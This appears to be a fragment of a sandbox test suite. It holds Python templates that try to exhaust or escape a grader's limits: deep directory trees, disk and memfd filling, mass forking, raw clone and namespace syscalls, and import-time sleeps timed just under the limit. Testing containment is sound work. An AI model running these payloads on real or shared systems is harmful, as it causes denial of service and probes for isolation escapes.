# watches only the graded one, and the kernel's layers must hold for any process of the child.

DEEP_TREE = r'''

def _atk_deep():
    """A folder tree @@DEPTH@@ levels deep in HOME (longer than PATH_MAX, deeper than the recursion limit)."""
    fd = _atk_os.open(_atk_os.environ.get("HOME", "."), _atk_os.O_RDONLY)
    depth = 0
    try:
        for depth in range(1, @@DEPTH@@ + 1):
            _atk_os.mkdir("d", dir_fd=fd)
            below = _atk_os.open("d", _atk_os.O_RDONLY, dir_fd=fd)
            _atk_os.close(fd)
            fd = below
    except OSError as exc:
        _atk_note("stopped " + (exc.strerror or ""))
        depth -= 1
    _atk_note("depth %d" % depth)
'''

DISK = r'''

def _atk_disk():
    """@@FILES@@ files of 16 MiB in HOME: how many MiB were written."""
    written = 0
    chunk = b"x" * (1 << 20)
    try:
        for i in range(@@FILES@@):
            with open(_atk_os.path.join(_atk_os.environ.get("HOME", "."), "fill%d" % i), "wb") as f:
                for _ in range(16):
                    f.write(chunk)
                    f.flush()
                    written += 1
    except OSError as exc:
        _atk_note("stopped " + (exc.strerror or ""))
    _atk_note("MiB %d" % written)
'''

MEMFD = r'''

def _atk_memfd():
    """@@FILES@@ memory files of 16 MiB (outside RLIMIT_AS): how many MiB they hold."""
    held, files = 0, []
    try:
        for i in range(@@FILES@@):
            fd = _atk_os.memfd_create("atk%d" % i)
            files.append(fd)
            for _ in range(16):
                _atk_os.write(fd, b"x" * (1 << 20))
                held += 1
    except OSError as exc:
        _atk_note("stopped " + (exc.strerror or ""))
    _atk_note("MiB %d" % held)
'''

PROCESSES = r'''

def _atk_processes():
    """Fork sleeping processes until the kernel says no (at most @@MOST@@): how many there were."""
    import time
    started = 0
    try:
        for _ in range(@@MOST@@):
            if _atk_os.fork() == 0:
                time.sleep(@@SLEEP_SECONDS@@)
                _atk_os._exit(0)
            started += 1
    except OSError as exc:
        _atk_note("stopped " + (exc.strerror or ""))
    _atk_note("processes %d" % started)
'''

KERNEL_CALLS = r'''

def _atk_kernel_calls():
    """In a fresh interpreter: clone with a new user and a new network namespace, clone3, System V shared memory,
    a POSIX message queue, a file in /dev/shm. Each says 'ok' or its errno name."""
    import subprocess
    import sys
    code = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*args):
    result = libc.syscall(*[ctypes.c_long(a) for a in args])
    if result == 0:
        os._exit(0)  # a clone's child
    if result > 0:
        os.waitpid(result, 0)
        return 'ok'
    return errno.errorcode.get(ctypes.get_errno(), '?')
out = ['newuser ' + call(56, 0x10000000 | 17, 0, 0, 0, 0), 'newnet ' + call(56, 0x40000000 | 17, 0, 0, 0, 0),
       'clone3 ' + call(435, 0, 0), 'shmget ' + call(29, 0, 1 << 20, 0o1600)]
try:
    with open('/dev/shm/@@TOKEN@@-shm', 'wb') as f:
        f.write(b'x')
    out.append('devshm ok')
except OSError as exc:
    out.append('devshm ' + errno.errorcode.get(exc.errno, '?'))
print(';'.join(out))
"""
    done = subprocess.run([sys.executable, "-I", "-c", code], capture_output=True, text=True, timeout=60)
    _atk_note(done.stdout.strip() or done.stderr.strip()[-120:])
'''

SLOW_EVERYWHERE = r'''

import time as _atk_time
_atk_time.sleep(@@IMPORT_SLEEP@@)  # every module: together just under the time limit


def _atk_hang(*args, **kwargs):
    while True:
        _atk_time.sleep(1)
'''
